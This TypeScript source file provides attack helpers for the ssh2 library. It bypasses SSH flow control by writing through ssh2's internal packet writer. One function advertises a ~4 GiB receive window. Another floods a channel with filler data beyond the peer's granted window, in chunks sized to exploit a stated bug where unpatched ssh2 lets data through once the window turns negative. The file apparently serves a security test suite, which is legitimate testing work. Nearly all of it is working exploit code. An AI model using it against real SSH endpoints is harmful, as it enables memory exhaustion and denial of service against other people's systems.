/**
 * Breaking SSH's flow control on purpose, for attack tools: ssh2's Channel honours the
 * peer's window, so these go one level down to its packet writer. A hostile peer sends
 * channel data beyond the window it was granted, or grants a window of ~4 GiB.
 */
import type { EventEmitter } from 'node:events';
import type { Duplex } from 'node:stream';

/** ssh2's internal packet writer (`_protocol`) of a client or server connection. */
interface SshWire {
  channelData(recipient: number, data: Buffer): void;
  channelWindowAdjust(recipient: number, amount: number): void;
}

/** A client or server connection of ssh2 (only its packet writer is used). */
export type SshConnection = object;
/** A channel of ssh2 (only its ids and window are used). */
export type SshChannel = object;

function wireOf(connection: SshConnection): SshWire {
  const wire = (connection as { _protocol?: SshWire })._protocol;
  if (!wire) throw new Error('not an ssh2 connection');
  return wire;
}

interface ChannelEnds {
  readonly incoming: { readonly id: number; window: number };
  readonly outgoing: { readonly id: number; window: number };
}

/** The peer's id of a channel (the recipient of what we send on it). */
export function peerChannelId(channel: SshChannel): number {
  return (channel as ChannelEnds).outgoing.id;
}

/** The largest SSH window (2^32 - 1 bytes). */
const MAX_WINDOW = 0xffff_ffff;

/** Tell the peer it may send ~4 GiB on this channel (whatever we will actually read). */
export function grantHugeWindow(connection: SshConnection, channel: SshChannel): void {
  const ends = channel as ChannelEnds;
  const amount = MAX_WINDOW - ends.incoming.window;
  if (amount <= 0) return;
  ends.incoming.window = MAX_WINDOW;
  wireOf(connection).channelWindowAdjust(ends.outgoing.id, amount);
}

/**
 * Chunk size of a flood: a byte under a 32 KiB packet, so the window (granted in
 * multiples of 32 KiB) is overrun rather than met exactly — unpatched ssh2 drops data
 * only when the window is exactly 0, and lets everything through once it is negative.
 */
const CHUNK = 32 * 1024 - 1;
/** The attacker's own send buffer is kept under this (a flood must not eat the test process). */
const OWN_BUFFER = 4 * 1024 * 1024;

export interface FloodOptions {
  /** Bytes to send first (e.g. an HTTP response head), inside the total. */
  readonly head?: Buffer;
  /** Stop after this long even if not all was sent. */
  readonly timeoutMs: number;
}

/**
 * Send `total` bytes on `channel` regardless of the window the peer granted, paced only by
 * our own transport (`transport`, the stream under SSH). Stops early when the transport
 * closes (the peer cut us off) or after `timeoutMs`. Returns the bytes handed to SSH.
 */
export async function floodChannel(
  connection: SshConnection,
  channel: SshChannel,
  transport: Duplex,
  total: number,
  options: FloodOptions,
): Promise<number> {
  const wire = wireOf(connection);
  const recipient = peerChannelId(channel);
  const deadline = Date.now() + options.timeoutMs;
  const filler = Buffer.alloc(CHUNK, 0x78);
  let sent = 0;
  const gone = () => transport.destroyed || !transport.writable;
  if (options.head) {
    wire.channelData(recipient, options.head);
    sent += options.head.length;
  }
  while (sent < total && !gone() && Date.now() < deadline) {
    const n = Math.min(CHUNK, total - sent);
    try {
      wire.channelData(recipient, n === CHUNK ? filler : filler.subarray(0, n));
    } catch {
      break; // ssh2 refuses to write on a connection it has torn down
    }
    sent += n;
    if (transport.writableLength > OWN_BUFFER) await firstOf(transport, ['drain', 'close'], deadline - Date.now());
  }
  return sent;
}

/** Resolve at the first of `events` on `emitter`, or after `ms`. */
export function firstOf(emitter: EventEmitter, events: readonly string[], ms: number): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(timer);
      for (const event of events) emitter.off(event, done);
      resolve();
    };
    const timer = setTimeout(done, Math.max(0, ms));
    for (const event of events) emitter.once(event, done);
  });
}
